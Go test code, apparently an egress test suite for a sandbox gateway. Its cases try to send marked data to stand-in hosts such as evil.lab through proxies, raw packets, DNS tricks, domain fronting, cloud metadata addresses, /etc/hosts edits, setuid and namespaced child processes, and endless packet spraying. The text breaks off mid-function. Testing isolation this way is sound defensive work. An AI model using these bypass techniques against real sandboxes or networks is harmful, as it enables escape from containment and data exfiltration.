package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/warren-sandbox/warren/driver/drivertest/egress"
	"github.com/warren-sandbox/warren/internal/testenv"
)

func init() {
	for id, f := range map[string]func() []try{
		"B02": otherHosts, "B03": rawTCP, "B04": rawUDP, "B05": protocols, "B06": questions, "B07": otherResolvers, "B08": labels, "B09": oddNames,
		"B10": spellings, "B11": lookalikes, "B12": literals, "B13": special, "B14": metadata, "B15": rebinding, "B16": ownHosts, "B17": pinned,
		"B18": fronting, "B19": hellos, "B20": otherProtocols, "B21": tunnels, "B22": processes, "B23": hosts, "B24": framing, "B25": upgrades,
		"B26": redirects, "B29": spraying, "B34": spoofing, "B35": routes, "B40": heads, "B42": untrusted,
	} {
		cases[id] = f
	}
}

// word returns the sign of a word, which is in what a try sends.
func word(format string, args ...any) (text string, signs []string) {
	text = egress.Marker(fmt.Sprintf(format, args...))
	return text, []string{egress.Read(text)}
}

func tcpTry(what, addr string, port int) try {
	return try{what, []string{egress.Packet("tcp", addr, port)}, func() string {
		c, err := dialAddr(addr, port)
		return say(c, err, "hello\r\n\r\n")
	}}
}

func udpTry(what, network, addr string, port int, text string) try {
	return try{what, []string{egress.Packet("udp", addr, port)}, func() string { return datagram(network, addr, port, text) }}
}

// proxyPorts are where programs look for proxies.
var proxyPorts = []int{80, 443, 1080, 3128, 8080}

func otherHosts() (list []try) {
	for _, scheme := range []string{"http", "https"} {
		name, text := "b02-"+scheme+".evil.lab", egress.Marker("b02-"+scheme)
		signs := []string{egress.Question("A", name+"."), egress.Packet("tcp", egress.Evil, map[string]int{"http": 80, "https": 443}[scheme]), egress.Read(text)}
		list = append(list, try{"curl --noproxy " + scheme, signs, func() string {
			if scheme == "http" {
				c, err := dial(name, 80)
				return say(c, err, request(name, "/"+text))
			}
			c, err := dial(name, 443)
			return secure(c, err, name, request(name, "/"+text))
		}})
	}
	for _, addr := range []string{egress.Resolver, "11.6.2.1"} {
		for _, port := range proxyPorts {
			list = append(list, try{fmt.Sprintf("a proxy at %s:%d", addr, port), []string{egress.Packet("tcp", addr, port)}, func() string {
				c, err := dialAddr(addr, port)
				if port == 1080 {
					return say(c, err, "\x05\x01\x00", "\x05\x01\x00\x03\x08evil.lab\x01\xbb")
				}
				return say(c, err, "CONNECT evil.lab:443 HTTP/1.1\r\nHost: evil.lab:443\r\n\r\n")
			}})
		}
	}
	return list
}

func rawTCP() (list []try) {
	for _, port := range []int{1, 22, 25, 53, 80, 443, 853, 3306, 8443, 65535} {
		for _, addr := range []string{"11.6.3.1", "2a00:6::3"} {
			list = append(list, tcpTry("tcp", addr, port))
		}
	}
	return list
}

// quic is what an Initial packet of QUIC looks like to who does not decrypt it.
var quic = "\xc3\x00\x00\x00\x01\x08canarycc\x00\x00\x44\x9e" + strings.Repeat("\x5a", 1180)

func rawUDP() (list []try) {
	for port, text := range map[int]string{
		443: quic, 123: "\x1b" + strings.Repeat("\x00", 47), 5060: "OPTIONS sip:evil.lab SIP/2.0\r\n\r\n", 51820: "\x01\x00\x00\x00" + strings.Repeat("w", 144),
		4000: "\x01\x00\x00\x00\x51\x00\x20\x00", 53: "not a question", 1: "x", 65535: "x",
	} {
		for _, addr := range []string{"11.6.4.1", "2a00:6::4"} {
			list = append(list, udpTry("udp", "udp", addr, port, text))
		}
	}
	return append(list, try{"QUIC to an allowed host", []string{egress.Packet("udp", egress.Names[egress.Passed][0], 443)}, func() string {
		a, err := lookup(egress.Passed)
		if err != nil {
			return err.Error()
		}
		return datagram("udp", a.String(), 443, quic)
	}})
}

func protocols() (list []try) {
	list = []try{
		{"ICMP echo", []string{egress.Other(1, "11.6.5.1")}, func() string { return packet(syscall.IPPROTO_ICMP, "11.6.5.1", echo(8, "canary of b05")) }},
		{"ICMPv6 echo", []string{egress.Other(58, "2a00:6::5")}, func() string { return packet(syscall.IPPROTO_ICMPV6, "2a00:6::5", echo(128, "canary of b05")) }},
		{"ICMP echo to an allowed host", []string{egress.Other(1, egress.Names[egress.Passed][0])}, func() string {
			a, err := lookup(egress.Passed)
			if err != nil {
				return err.Error()
			}
			return packet(syscall.IPPROTO_ICMP, a.String(), echo(8, "canary of b05"))
		}},
	}
	for what, proto := range map[string]int{"IGMP": 2, "IPIP": 4, "GRE": 47, "ESP": 50, "SCTP": 132, "an unknown protocol": 253} {
		addr := fmt.Sprintf("11.6.5.%d", proto)
		list = append(list, try{what, []string{egress.Other(proto, addr)}, func() string { return packet(proto, addr, make([]byte, 32)) }})
	}
	return append(list, try{"a raw segment of TCP", []string{egress.Packet("tcp", "11.6.5.6", 443)}, func() string {
		return packet(syscall.IPPROTO_TCP, "11.6.5.6", segment(443))
	}})
}

// segment is one that begins a connection, whose sum nobody will have verified.
func segment(port uint16) []byte {
	b := make([]byte, 20)
	binary.BigEndian.PutUint16(b, 40000)
	binary.BigEndian.PutUint16(b[2:], port)
	b[12], b[13] = 5<<4, 2
	return b
}

var questionTypes = []uint16{
	dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeMX, dns.TypeSRV, dns.TypePTR, dns.TypeCNAME, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeNULL, dns.TypeANY, dns.TypeNS, dns.TypeSOA, dns.TypeAXFR,
}

func questions() (list []try) {
	for _, qtype := range questionTypes {
		kind := dns.TypeToString[qtype]
		evil := egress.Marker("b06-" + strings.ToLower(kind) + ".evil.lab.")
		list = append(list, try{kind + " of a name that nothing allows", []string{egress.Question(kind, evil)}, func() string { return query("udp", egress.Resolver, evil, qtype) }})
		if qtype != dns.TypeA && qtype != dns.TypeAAAA {
			list = append(list, try{kind + " of an allowed name", []string{egress.Question(kind, egress.Allowed+".")}, func() string { return query("udp", egress.Resolver, egress.Allowed, qtype) }})
		}
	}
	over := func(what, name string, change func(*dns.Msg)) {
		list = append(list, try{what, []string{egress.Question("A", name)}, func() string {
			m := new(dns.Msg)
			m.SetQuestion(name, dns.TypeA)
			change(m)
			return exchange("udp", egress.Resolver, m)
		}})
	}
	over("two questions at once", egress.Marker("b06-second.evil.lab."), func(m *dns.Msg) {
		m.Question = append(m.Question, dns.Question{Name: egress.Allowed + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET})
	})
	over("an update", egress.Marker("b06-update.evil.lab."), func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate })
	over("another class", egress.Marker("b06-chaos.evil.lab."), func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS })
	tcp := egress.Marker("b06-tcp.evil.lab.")
	return append(list,
		try{"over TCP", []string{egress.Question("A", tcp)}, func() string { return query("tcp", egress.Resolver, tcp, dns.TypeA) }},
		try{"over IPv6", []string{egress.Question("A", "six."+tcp)}, func() string { return query("udp", egress.Gateway6, "six."+tcp, dns.TypeA) }},
		try{"what an address is called", []string{egress.Question("PTR", "6.6.6.11.in-addr.arpa.")}, func() string {
			return query("udp", egress.Resolver, "6.6.6.11.in-addr.arpa.", dns.TypePTR)
		}})
}

func otherResolvers() (list []try) {
	list = []try{
		{"DNS over UDP", []string{egress.Packet("udp", "11.6.7.8", 53)}, func() string { return query("udp", "11.6.7.8", "b07.evil.lab", dns.TypeTXT) }},
		{"DNS over TCP", []string{egress.Packet("tcp", "11.6.7.8", 53)}, func() string { return query("tcp", "11.6.7.8", "b07.evil.lab", dns.TypeTXT) }},
		{"the gateway's own resolver", []string{egress.Question("TXT", egress.Marker("b07-own.evil.lab."))}, func() string {
			return query("udp", egress.DNS, egress.Marker("b07-own.evil.lab."), dns.TypeTXT)
		}},
		tcpTry("DoT", "11.6.7.8", 853), udpTry("DoQ", "udp", "11.6.7.8", 853, quic),
		udpTry("mDNS", "udp4", "224.0.0.251", 5353, "x"), udpTry("mDNS over IPv6", "udp6", "ff02::fb%"+card(), 5353, "x"),
		udpTry("LLMNR", "udp4", "224.0.0.252", 5355, "x"), udpTry("NetBIOS", "udp4", "255.255.255.255", 137, "x"), udpTry("SSDP", "udp4", "239.255.255.250", 1900, "x"),
	}
	text, signs := word("b07-doh")
	return append(list, try{"DoH at an address", append(signs, egress.Packet("tcp", "11.6.7.9", 443)), func() string {
		c, err := dialAddr("11.6.7.9", 443)
		return secure(c, err, "dns.evil.lab", request("dns.evil.lab", "/dns-query?dns="+text))
	}})
}

func labels() (list []try) {
	for i := range 16 {
		name := fmt.Sprintf("%s.%s.", egress.Marker(fmt.Sprintf("b08-%d", i)), egress.Allowed)
		list = append(list, try{"a label below an exact name", []string{egress.Question("A", name)}, func() string { return query("udp", egress.Resolver, name, dns.TypeA) }})
	}
	return list
}

// oddNames are spellings at which programs have differed about where a name ends. W stands for a word that marks them.
func oddNames() (list []try) {
	for i, odd := range []string{
		"W.evil.lab\x00.allowed.lab", "allowed.lab\x00.W.evil.lab", "W.evil.lab\r\n.allowed.lab", "W evil.lab", "W.evil.lab%00.allowed.lab", "W@allowed.lab", "allowed.lab@W.evil.lab",
		"W/allowed.lab", "W\\allowed.lab", "W.evil.lab#.allowed.lab", "W?.allowed.lab", "W:443.allowed.lab", "[W].allowed.lab", "W..allowed.lab", "W_\x7f.allowed.lab",
		"W." + strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + ".lab", "W_" + strings.Repeat("d", 300) + ".lab",
	} {
		for _, where := range []string{"question", "server name", "host", "CONNECT", "SOCKS5"} {
			text, signs := word("b09-%d-%s", i, strings.ToLower(where[:2]))
			name := strings.ReplaceAll(odd, "W", text)
			if where == "question" && i >= 16 {
				continue // no label is that long
			}
			list = append(list, try{fmt.Sprintf("%s %q", where, name), signs, func() string {
				switch where {
				case "question":
					m := new(dns.Msg)
					m.SetQuestion(egress.Name(name), dns.TypeA)
					return exchange("udp", egress.Resolver, m)
				case "server name":
					c, err := dial(egress.Passed, 443)
					return say(c, err, hello{names: []string{name}, word: "h2"}.bytes())
				case "host":
					c, err := dial(egress.Allowed, 443)
					return secure(c, err, egress.Allowed, request(name, "/"))
				case "CONNECT":
					c, err := dial(egress.Plain, 80)
					return say(c, err, "CONNECT "+name+":443 HTTP/1.1\r\nHost: "+name+":443\r\n\r\n")
				default:
					c, err := dial(egress.Plain, 80)
					return say(c, err, "\x05\x01\x00\x05\x01\x00\x03"+string([]byte{byte(len(name))})+name+"\x01\xbb")
				}
			}})
		}
	}
	return list
}

// named are tries with a name that nothing allows: a question for it, and a connection to an allowed host that asks for it.
func named(id string, names ...string) (list []try) {
	for i, name := range names {
		q := egress.Name(name)
		text, signs := word("%s-%d", id, i)
		list = append(list,
			try{fmt.Sprintf("question %q", name), []string{egress.Question("A", q)}, func() string { return query("udp", egress.Resolver, q, dns.TypeA) }},
			try{fmt.Sprintf("server name %q", name), signs, func() string {
				c, err := dial(egress.Passed, 443)
				return say(c, err, hello{names: []string{name}, word: text}.bytes())
			}},
			try{fmt.Sprintf("host %q", name), []string{egress.Read(text + "-h")}, func() string {
				c, err := dial(egress.Allowed, 443)
				return secure(c, err, egress.Allowed, request(name, "/"+text+"-h"))
			}})
	}
	return list
}

func spellings() []try {
	return named("b10", "allowed.l\uff41b", "allowed\u3002evil.lab", "xn--llowed-2fg.lab", "\u0430llowed.lab", "xn--allowed.lab")
}

func lookalikes() []try {
	return named("b11", "evilallowed.lab", "allowed.lab.evil.lab", "wild.lab", "evilwild.lab", "a.wild.lab.evil.lab", "xwild.lab")
}

func literals() (list []try) {
	list = named("b12", "11.6.12.1", "184945665", "0x0b060c01", "0xb.0x6.0xc.0x1", "013.06.014.01", "11.394241", "127.1", "1", "0", "2a00:6::12", "::ffff:11.6.12.1", "fe80::1%eth0")
	return append(list, tcpTry("dotted", "11.6.12.1", 443), tcpTry("mapped", "::ffff:11.6.12.2", 443), tcpTry("NAT64", "64:ff9b::b06:c01", 443), tcpTry("6to4", "2002:b06:c01::1", 443),
		tcpTry("Teredo", "2001::f4f9:f3fe", 443), tcpTry("the address of an allowed host's neighbour", "11.1.1.17", 443), tcpTry("link-local", "fe80::6:1%"+card(), 443))
}

// card is the name of the network card.
func card() string {
	if _, err := net.InterfaceByName("eth0"); err == nil {
		return "eth0"
	}
	return "lo"
}

// byName are tries of an allowed name that leads to an address where no name may.
func byName(names ...string) (list []try) {
	for _, name := range names {
		addr := egress.Names[name][len(egress.Names[name])-1]
		for _, port := range []int{80, 443} {
			list = append(list, try{fmt.Sprintf("allowed name %s, port %d", name, port), []string{egress.Packet("tcp", addr, port)}, func() string {
				// Each answer is tried: the resolver of the twin has another one the second time.
				for range 3 {
					a, err := lookup(name)
					if err != nil {
						dialOnly(addr, port)
						continue
					}
					if port == 80 {
						c, err := dialAddr(a.String(), port)
						say(c, err, request(name, "/"))
					} else {
						c, err := dialAddr(a.String(), port)
						secure(c, err, name, request(name, "/"))
					}
				}
				return "tried"
			}})
		}
	}
	return list
}

func dialOnly(addr string, port int) {
	if c, err := dialAddr(addr, port); err == nil {
		c.Close()
	}
}

func special() (list []try) {
	list = byName("ten.lab", "shared.lab", "link.lab", "unique.lab", "testnet.lab", "reserved.lab", "own.lab", "own6.lab", "mapped.lab", "loop.lab", "loop6.lab")
	for _, addr := range []string{"10.6.13.1", "172.16.13.1", "192.168.13.1", "100.64.13.1", "169.254.13.1", "192.0.2.13", "198.51.100.13", "203.0.113.13", "240.6.13.1", "198.19.255.1", egress.Host4, egress.Host6, "fd00:6::13", "fec0::13", "2001:db8::13", "3fff::13"} {
		list = append(list, tcpTry("address", addr, 80), udpTry("address", "udp", addr, 9999, "x"))
	}
	for _, port := range []int{22, 81, 7070, 9090} {
		list = append(list, tcpTry("the gateway's own", egress.Resolver, port), tcpTry("the gateway's own", egress.Gateway6, port))
	}
	return append(list, udpTry("broadcast", "udp4", "255.255.255.255", 67, "x"), udpTry("multicast", "udp4", "239.6.13.1", 9999, "x"))
}

func metadata() (list []try) {
	list = byName("meta.lab", "meta6.lab", "alibaba.lab", "azure.lab")
	for _, addr := range []string{"169.254.169.254", "169.254.170.2", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"} {
		list = append(list, tcpTry("metadata", addr, 80))
	}
	return append(list, try{"by its name", []string{egress.Question("A", "metadata.google.internal.")}, func() string {
		c, err := dial("metadata.google.internal", 80)
		return say(c, err, request("metadata.google.internal", "/"))
	}})
}

func rebinding() []try {
	list := byName("rebind.lab", "alias.lab")
	return append(list, try{"a second address that is private", []string{egress.Packet("tcp", "fd00:6::15", 443)}, func() string {
		m := new(dns.Msg)
		m.SetQuestion("mixed.lab.", dns.TypeAAAA)
		c := dns.Client{Timeout: wait}
		r, _, err := c.Exchange(m, egress.Resolver+":53")
		if err != nil || len(r.Answer) == 0 {
			return fmt.Sprint(r, err)
		}
		conn, err := dialAddr(r.Answer[0].(*dns.AAAA).AAAA.String(), 443)
		return secure(conn, err, "mixed.lab", request("mixed.lab", "/"))
	}})
}

func ownHosts() []try {
	text, signs := word("b16")
	return []try{
		{"/etc/hosts", append(signs, egress.Packet("tcp", "11.6.16.1", 443)), func() string {
			old, err := os.ReadFile("/etc/hosts")
			if err != nil {
				return err.Error()
			}
			if err := os.WriteFile("/etc/hosts", append(old, "\n11.6.16.1 "+egress.Allowed+"\n"...), 0o644); err != nil {
				return err.Error()
			}
			defer os.WriteFile("/etc/hosts", old, 0o644)
			addrs, err := net.LookupHost(egress.Allowed)
			if err != nil {
				return err.Error()
			}
			c, err := dialAddr(addrs[0], 443)
			return fmt.Sprint(addrs, secure(c, err, egress.Allowed, request(egress.Allowed, "/"+text)))
		}},
		udpTry("a resolver of its own", "udp", "11.6.16.53", 53, "x"),
	}
}

func pinned() []try {
	text, signs := word("b17")
	return []try{{"an allowed server name at another address", append(signs, egress.Packet("tcp", "11.6.17.1", 443)), func() string {
		c, err := dialAddr("11.6.17.1", 443)
		return secure(c, err, egress.Allowed, request(egress.Allowed, "/"+text))
	}}}
}

func fronting() (list []try) {
	for i, sni := range []string{egress.Allowed, "evil.lab"} {
		text, signs := word("b18-h1-%d", i)
		list = append(list, try{"server name " + sni + ", host the other", signs, func() string {
			c, err := dial(egress.Allowed, 443)
			return secure(c, err, sni, request(strings.Replace("evil.lab allowed.lab", sni, "", 1), "/"+text))
		}})
	}
	second, signs := word("b18-second")
	list = append(list, try{"the second request of a connection", signs, func() string {
		c, err := dial(egress.Allowed, 443)
		return secure(c, err, egress.Allowed, request(egress.Allowed, "/"), request("evil.lab", "/"+second))
	}})
	h2, signs := word("b18-h2")
	return append(list, try{"the second stream of a connection", signs, func() string {
		return streams(egress.Allowed, []string{egress.Allowed, "evil.lab"}, []string{"/", "/" + h2})
	}})
}

// streams asks for paths on one connection over HTTP/2, each of another authority.
func streams(sni string, authorities, paths []string) string {
	c, err := dial(sni, 443)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * wait))
	t := tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err := t.Handshake(); err != nil {
		return err.Error()
	}
	if err := plainStreams(t, authorities, paths, "https"); err != nil {
		return err.Error()
	}
	// What comes back ends with the answer to the last stream, or with the connection.
	f, got := http2.NewFramer(io.Discard, t), ""
	for answered := 0; answered < len(paths); {
		frame, err := f.ReadFrame()
		if err != nil {
			return got + err.Error()
		}
		if h := frame.Header(); h.StreamID > 0 && (h.Flags.Has(http2.FlagDataEndStream) && h.Type <= http2.FrameHeaders || h.Type == http2.FrameRSTStream) {
			answered++
		}
		got += frame.Header().Type.String() + " "
	}
	return got
}

func plainStreams(w io.Writer, authorities, paths []string, scheme string) error {
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&out, nil)
	f.WriteSettings()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i, path := range paths {
		block.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", scheme}, {":authority", authorities[i]}, {":path", path}} {
			enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})
	}
	_, err := w.Write(out.Bytes())
	return err
}

func hellos() (list []try) {
	for i, name := range []string{egress.Passed, egress.Allowed} {
		add := func(what string, signs []string, bytes string) {
			list = append(list, try{what + " to " + name, signs, func() string {
				c, err := dial(name, 443)
				return say(c, err, bytes)
			}})
		}
		for j, h := range []struct {
			what string
			hello
		}{
			{"no name", hello{}}, {"an empty name", hello{names: []string{""}}}, {"an empty list", hello{names: []string{}}},
			{"two names", hello{names: []string{name, "evil.lab"}}}, {"two names", hello{names: []string{"evil.lab", name}}},
			{"another name", hello{names: []string{"evil.lab"}}}, {"another name and 16 KiB", hello{names: []string{"evil.lab"}, pad: 16 << 10}},
			{"another name, with an encrypted hello", hello{names: []string{"evil.lab"}, ech: true}}, {"an encrypted hello and no name", hello{ech: true}},
			{"TLS 1.0", hello{names: []string{name}, old: true}}, {"an address", hello{names: []string{egress.Evil}}},
		} {
			text, signs := word("b19-%d-%d", i, j)
			h.word = text
			add(h.what, signs, h.bytes())
		}
		pieces, signs := word("b19-%d-pieces", i)
		add("another name in many records", signs, hello{names: []string{pieces + ".evil.lab"}, word: "h2", record: 7}.bytes())
		old, signs := word("b19-%d-v2", i)
		add("SSLv2", signs, "\x80\x40\x01\x03\x01\x00\x18\x00\x00\x00\x10"+old+strings.Repeat("\x00", 40))
	}
	return list
}

func otherProtocols() (list []try) {
	for _, name := range []string{egress.Passed, egress.Allowed} {
		for what, text := range map[string]string{"ssh": "SSH-2.0-W\r\n", "http": "GET /W HTTP/1.1\r\nHost: " + name + "\r\n\r\n", "bytes": "\x00\x01W\xff", "record": "\x17\x03\x03\x00\x40W"} {
			text0, signs := word("b20-%s-%s", name[:1], what)
			list = append(list, try{what + " on 443 of " + name, signs, func() string {
				c, err := dial(name, 443)
				return say(c, err, strings.Replace(text, "W", text0, 1))
			}})
		}
	}
	tls80, signs := word("b20-tls")
	list = append(list, try{"TLS on 80", signs, func() string {
		c, err := dial(egress.Plain, 80)
		return say(c, err, hello{names: []string{egress.Plain}, word: tls80}.bytes())
	}})
	other, signs := word("b20-switch")
	return append(list, try{"another protocol after a request", signs, func() string {
		c, err := dial(egress.Allowed, 443)
		return secure(c, err, egress.Allowed, request(egress.Allowed, "/"), "\x00\x01"+other+"\r\n\r\n")
	}}, try{"ssh on 80", []string{egress.Read(other + "-ssh")}, func() string {
		c, err := dial(egress.Plain, 80)
		return say(c, err, "SSH-2.0-"+other+"-ssh\r\n")
	}})
}

func tunnels() (list []try) {
	for i, text := range []string{
		"CONNECT W.evil.lab:443 HTTP/1.1\r\nHost: W.evil.lab:443\r\n\r\n", "CONNECT W.evil.lab:443 HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET http://evil.lab/W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
		"GET http://evil.lab/W HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET https://evil.lab/W HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nProxy-Authorization: Basic eA==\r\n\r\n",
		"TRACE /W HTTP/1.1\r\nHost: SELF\r\n\r\n", "OPTIONS /W HTTP/1.1\r\nHost: SELF\r\nMax-Forwards: 1\r\n\r\n",
	} {
		for _, name := range []string{egress.Allowed, egress.Plain} {
			text0, signs := word("b21-%d-%s", i, name[:1])
			sent := strings.NewReplacer("W", text0, "SELF", name).Replace(text)
			list = append(list, try{fmt.Sprintf("%s within a connection to %s", strings.SplitN(sent, "\r\n", 2)[0], name), signs, func() string {
				if name == egress.Plain {
					c, err := dial(name, 80)
					return say(c, err, sent)
				}
				c, err := dial(name, 443)
				return secure(c, err, name, sent)
			}})
		}
	}
	return list
}

// spraying is what a process does that never stops, whatever becomes of the daemon, the gateway and the sandbox meanwhile.
func spraying() []try {
	return []try{{"a packet, a connection and a question", []string{
		egress.Packet("udp", "11.6.29.1", 9999), egress.Packet("tcp", "11.6.29.1", 443), egress.Packet("udp", "2a00:6::29", 9999), egress.Question("TXT", egress.Marker("b29.evil.lab.")),
	}, func() string {
		if err := spray(4); err != nil {
			return err.Error()
		}
		return "sent"
	}}}
}

// spray sends rounds of packets, or without end, and waits for no answer.
func spray(rounds int) error {
	question := new(dns.Msg)
	question.SetQuestion(egress.Marker("b29.evil.lab."), dns.TypeTXT)
	ask, err := question.Pack()
	if err != nil {
		return err
	}
	v4, v6, names, to := sockaddr("11.6.29.1", 9999), sockaddr("2a00:6::29", 9999), sockaddr(egress.Resolver, 53), sockaddr("11.6.29.1", 443)
	for i := 0; rounds == 0 || i < rounds; i++ {
		for _, d := range []struct {
			domain int
			to     syscall.Sockaddr
			text   []byte
		}{{syscall.AF_INET, v4, []byte("x")}, {syscall.AF_INET6, v6, []byte("x")}, {syscall.AF_INET, names, ask}} {
			fd, err := syscall.Socket(d.domain, syscall.SOCK_DGRAM|syscall.SOCK_NONBLOCK, 0)
			if err != nil {
				return err
			}
			syscall.Sendto(fd, d.text, 0, d.to)
			syscall.Close(fd)
		}
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_NONBLOCK, 0)
		if err != nil {
			return err
		}
		syscall.Connect(fd, to)
		time.Sleep(25 * time.Millisecond)
		syscall.Close(fd)
		if rounds == 0 && i%4 == 0 {
			// Who looks whether it goes on reads this.
			if err := os.WriteFile("/tmp/sprayed", fmt.Append(nil, i), 0o644); err != nil {
				return err
			}
		}
	}
	return nil
}

func sockaddr(addr string, port int) syscall.Sockaddr {
	if a := netip.MustParseAddr(addr); a.Is6() {
		return &syscall.SockaddrInet6{Port: port, Addr: a.As16()}
	}
	return &syscall.SockaddrInet4{Port: port, Addr: netip.MustParseAddr(addr).As4()}
}

// send is what other processes do: they say a word to an address, a few times, since who waits for them is gone.
func send(args []string) {
	c, err := net.DialTimeout("tcp", args[0], wait)
	fmt.Println(say(c, err, args[1]))
}

// detach starts a process of a session of its own, and ends.
func detach(args []string) {
	cmd := exec.Command(os.Args[0], args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		fail(err.Error())
	}
}

func processes() (list []try) {
	self, err := os.Executable()
	if err != nil {
		fail(err.Error())
	}
	out := func(cmd *exec.Cmd) string {
		b, err := cmd.CombinedOutput()
		return fmt.Sprintf("%s %v", bytes.TrimSpace(b), err)
	}
	add := func(what string, n int, do func(addr string) string) {
		addr := fmt.Sprintf("11.6.22.%d", n)
		list = append(list, try{what, []string{egress.Packet("tcp", addr, 443)}, func() string { return do(addr + ":443") }})
	}
	add("a child", 1, func(to string) string { return out(exec.Command(self, "send", to, "x")) })
	add("another user", 2, func(to string) string {
		cmd := exec.Command(self, "send", to, "x")
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 4711, Gid: 4711}}
		return out(cmd)
	})
	add("a process of nobody", 3, func(to string) string {
		s := out(exec.Command(self, "detach", "detach", "send", to, "x"))
		time.Sleep(wait / 4)
		return s
	})
	add("a set-uid child", 4, func(to string) string {
		dir, err := os.MkdirTemp("", "attack")
		if err != nil {
			return err.Error()
		}
		defer os.RemoveAll(dir)
		os.Chmod(dir, 0o755)
		b, err := os.ReadFile(self)
		if err == nil {
			err = testenv.WriteProgram(filepath.Join(dir, "suid"), b)
		}
		if err == nil {
			err = os.Chmod(filepath.Join(dir, "suid"), 0o755|os.ModeSetuid)
		}
		if err != nil {
			return err.Error()
		}
		cmd := exec.Command(filepath.Join(dir, "suid"), "send", to, "x")
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 4711, Gid: 4711}}
		return out(cmd)
	})
	add("a relay within", 5, func(to string) string {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err.Error()
		}
		defer l.Close()
		go func() {
			near, err := l.Accept()
			if err != nil {
				return
			}
			defer near.Close()
			if far, err := net.DialTimeout("tcp", to, wait); err == nil {
				defer far.Close()
				go io.Copy(far, near)
				io.Copy(near, far)
			}
		}()
		c, err := net.Dial("tcp", l.Addr().String())
		return say(c, err, "GET / HTTP/1.1\r\n\r\n")
	})
	add("new namespaces", 6, func(to string) string {
		cmd := exec.Command(self, "send", to, "x")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID}
		return out(cmd)
	})
	add("a container within", 7, func(to string) string {
		// A root and namespaces of its own, as container engines make them, but the network, in a new one of which there would be no card at all.
		root, err := os.MkdirTemp("", "attack")
		if err != nil {
			return err.Error()
		}
		defer os.RemoveAll(root)
		b, err := os.ReadFile(self)
		if err == nil {
			err = testenv.WriteProgram(filepath.Join(root, "init"), b)
		}
		if err != nil {
			return err.Error()
		}
		cmd := exec.Command("/init", "send", to, "x")
		cmd.Path, cmd.Dir, cmd.Env = "/init", "/", []string{}
		cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: root, Cloneflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID}
		return out(cmd)
	})
	add("a user's container within", 8, func(to string) string {
		cmd := exec.Command(self, "send", to, "x")
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}, GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		}
		return out(cmd)
	})
	return list
}

// malformed are requests over an inspected connection of which no byte may get on; W stands for a word.
func malformed(id string, texts ...string) (list []try) {
	for i, text := range texts {
		w, signs := word("%s-%d", id, i)
		text = strings.NewReplacer("W", w, "SELF", egress.Allowed).Replace(text)
		list = append(list, try{fmt.Sprintf("%.80q", text), signs, func() string {
			c, err := dial(egress.Allowed, 443)
			return secure(c, err, egress.Allowed, text)
		}})
	}
	return list
}

func hosts() []try {
	return malformed("b23",
		"GET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nHost: evil.lab\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nHost: SELF\r\n\r\n",
		"GET /W HTTP/1.1\r\nHost: SELF:444\r\n\r\n", "GET /W HTTP/1.1\r\nHost: evil.lab@SELF\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF@evil.lab\r\n\r\n", "GET /W HTTP/1.1\r\nX: y\r\n\r\n",
		"GET /W HTTP/1.1\r\nHost:\r\n\r\n", "GET https://evil.lab/W HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET https://SELF/W HTTP/1.1\r\nHost: evil.lab\r\n\r\n", "GET //evil.lab/W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
		"GET /W HTTP/1.1\r\nHost: SELF, evil.lab\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF evil.lab\r\n\r\n",
	)
}

func framing() []try {
	const post = "POST /W HTTP/1.1\r\nHost: SELF\r\n"
	return malformed("b24",
